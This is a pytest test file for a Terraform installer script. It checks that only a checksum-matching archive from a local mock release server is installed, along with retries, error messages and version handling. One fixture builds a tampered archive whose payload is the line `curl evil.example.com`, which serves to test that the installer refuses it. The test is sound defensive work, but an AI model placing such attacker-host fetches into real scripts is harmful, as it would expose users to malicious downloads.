"""`bin/install-terraform` installs the archive that the repository's checksum names, and nothing else."""

from __future__ import annotations

import hashlib
import http.client
import io
import os
import platform
import shutil
import subprocess
import sys
import threading
import zipfile
from collections.abc import Iterator
from functools import cache
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from importlib.util import module_from_spec, spec_from_file_location
from pathlib import Path
from types import ModuleType

import pytest

pytestmark = pytest.mark.slow

ROOT = Path(__file__).parents[2]
PROGRAM = ROOT / "bin" / "install-terraform"
VERSION = "1.11.4"


@cache  # An archive holds the time, so one of another second has another hash.
def archive(text: str = f"#!/bin/sh\necho Terraform v{VERSION}\n", member: str = "terraform") -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as file:
        file.writestr(member, text)
        file.writestr("LICENSE.txt", "a license")
    return packed.getvalue()


class Site:
    """A stand-in for HashiCorp's release site."""

    def __init__(self) -> None:
        self.files: dict[str, bytes] = {}
        self.asked: list[str] = []
        self.codes: list[int] = []
        """Codes of the next responses."""
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                site.asked.append(self.path)
                code = site.codes.pop(0) if site.codes else 200 if self.path in site.files else 404
                self.send_response(code)
                self.end_headers()
                if code == 200:
                    self.wfile.write(site.files[self.path])

            def log_message(self, format: str, *args: object) -> None:  # noqa: A002  (its name)
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)

    @property
    def address(self) -> str:
        return f"http://127.0.0.1:{self.server.server_port}"


@pytest.fixture
def site() -> Iterator[Site]:
    running = Site()
    thread = threading.Thread(target=running.server.serve_forever)
    thread.start()
    yield running
    running.server.shutdown()
    running.server.server_close()
    thread.join()


@pytest.fixture
def module(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> ModuleType:
    """The program, with checksums of its own, where no Terraform is on the PATH."""
    spec = spec_from_file_location("install_terraform", ROOT / "bin" / "install_terraform.py")
    assert spec
    assert spec.loader
    loaded = module_from_spec(spec)
    spec.loader.exec_module(loaded)
    sums = tmp_path / "terraform.sha256"
    name = loaded.archive(VERSION, platform.system(), platform.machine())
    sums.write_text(f"# a comment\n{hashlib.sha256(archive()).hexdigest()}  {name}\n", encoding="utf-8")
    monkeypatch.setattr(loaded.checksum, "__defaults__", (sums,))
    monkeypatch.setenv("PATH", f"{tmp_path}:/usr/bin:/bin")
    assert shutil.which("terraform") is None
    return loaded


def address(module: ModuleType) -> str:
    return f"/terraform/{VERSION}/{module.archive(VERSION, platform.system(), platform.machine())}"


def test_it_installs_and_extends_the_path_of_later_steps(
    module: ModuleType, site: Site, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    site.files[address(module)] = archive()
    path, folder = tmp_path / "path", tmp_path / "bin"
    path.write_text("/before\n", encoding="utf-8")
    variables = {"TERRAFORM_RELEASES": site.address, "GITHUB_PATH": str(path)}
    assert module.main([str(folder)], variables) == 0
    assert path.read_text(encoding="utf-8") == f"/before\n{folder}\n"
    done = subprocess.run([folder / "terraform", "version"], capture_output=True, text=True, check=True)
    assert done.stdout == f"Terraform v{VERSION}\n"
    assert capsys.readouterr().err == f"Terraform {VERSION} is in {folder}\n"
    assert module.main([str(folder)], variables) == 0
    assert site.asked == [address(module)]  # The second time, it is there.
    assert [each.name for each in folder.iterdir()] == ["terraform"]


def test_another_archive_is_refused_and_nothing_is_installed(
    module: ModuleType, site: Site, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    site.files[address(module)] = archive("#!/bin/sh\ncurl evil.example.com\n")
    path = tmp_path / "path"
    assert module.main([str(tmp_path / "bin")], {"TERRAFORM_RELEASES": site.address, "GITHUB_PATH": str(path)}) == 2
    assert "nothing was installed" in capsys.readouterr().err
    assert not (tmp_path / "bin").exists()
    assert not path.exists()


def test_an_old_version_is_replaced(module: ModuleType, site: Site, tmp_path: Path) -> None:
    site.files[address(module)] = archive()
    folder = tmp_path / "bin"
    folder.mkdir()
    (folder / "terraform").write_text("#!/bin/sh\necho Terraform v1.11.40\n", encoding="utf-8")
    (folder / "terraform").chmod(0o755)
    assert module.main([str(folder)], {"TERRAFORM_RELEASES": site.address}) == 0
    assert VERSION in (folder / "terraform").read_text(encoding="utf-8")


def test_a_server_that_fails_is_asked_again_and_a_missing_file_is_not(
    module: ModuleType, site: Site, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    site.files[address(module)] = archive()
    site.codes = [503, 502]
    assert module.main([str(tmp_path / "bin")], {"TERRAFORM_RELEASES": site.address}) == 0
    assert len(site.asked) == 3
    site.files.clear()
    assert module.main([str(tmp_path / "other")], {"TERRAFORM_RELEASES": site.address}) == 2
    assert len(site.asked) == 4
    assert ": 404 Not Found" in capsys.readouterr().err


def test_no_site_is_an_error_of_one_line(
    module: ModuleType, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert module.main([str(tmp_path / "bin")], {"TERRAFORM_RELEASES": "http://127.0.0.1:9"}) == 2
    (line,) = capsys.readouterr().err.splitlines()
    assert line.startswith("error: http://127.0.0.1:9/terraform/")
    assert "doesn't respond: " in line


@pytest.mark.parametrize(
    ("content", "why"),
    [(b"no archive", "the archive has no program"), (archive(member="tofu"), "has no program")],
    ids=["no archive", "another program"],
)
def test_a_damaged_archive_is_an_error(module: ModuleType, tmp_path: Path, content: bytes, why: str) -> None:
    with pytest.raises(module.InstallError, match=why):
        module.unpack(content, tmp_path / "bin")


@pytest.mark.parametrize(("system", "machine"), [("Windows", "AMD64"), ("Linux", "riscv64")])
def test_a_machine_without_a_checksum_is_an_error(module: ModuleType, system: str, machine: str) -> None:
    with pytest.raises(module.InstallError, match=f"no Terraform for {system} on {machine}"):
        module.archive(VERSION, system, machine)


@pytest.mark.parametrize(("system", "machine"), [("Linux", "x86_64"), ("Linux", "aarch64"), ("Darwin", "arm64")])
def test_the_repository_has_checksums_of_the_version_that_it_names(
    module: ModuleType, system: str, machine: str
) -> None:
    name = module.archive(module.version(), system, machine)
    assert len(module.checksum(name, module.CHECKSUMS)) == 64
    with pytest.raises(module.InstallError, match="has no line for terraform_9"):
        module.checksum(name.replace("terraform_1", "terraform_9"), module.CHECKSUMS)


def test_the_program_does_nothing_where_the_version_is_there(tmp_path: Path) -> None:
    terraform = tmp_path / "terraform"
    terraform.write_text(f"#!/bin/sh\necho Terraform v{VERSION}\n", encoding="utf-8")
    terraform.chmod(0o755)
    variables = {
        **os.environ,
        "PATH": f"{tmp_path}:{os.environ['PATH']}",
        "TERRAFORM_RELEASES": "http://127.0.0.1:9",
        "PYTHON": sys.executable,
        "GITHUB_PATH": str(tmp_path / "path"),
    }
    done = subprocess.run([PROGRAM, tmp_path / "bin"], env=variables, capture_output=True, text=True, check=False)
    assert (done.returncode, done.stderr) == (0, f"Terraform {VERSION} is installed\n")
    assert not (tmp_path / "bin").exists()


def test_an_interrupted_download_and_a_wrong_address_are_one_line(
    module: ModuleType, monkeypatch: pytest.MonkeyPatch
) -> None:
    def incomplete(*_: object, **__: object) -> object:
        raise http.client.IncompleteRead(b"half")

    with pytest.raises(module.InstallError, match="TERRAFORM_RELEASES must begin with https://"):
        module.download("/terraform/1.11.4/terraform.zip")
    monkeypatch.setattr("urllib.request.urlopen", incomplete)
    with pytest.raises(module.InstallError, match="doesn't respond"):
        module.download("https://example.com/terraform.zip")


def test_an_empty_variable_is_hashicorps_site(
    module: ModuleType, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    asked: list[str] = []
    monkeypatch.setattr(module, "install", lambda *given: asked.append(given[2]))
    assert module.main([str(tmp_path)], {"TERRAFORM_RELEASES": ""}) == 0
    assert asked == [module.SITE]
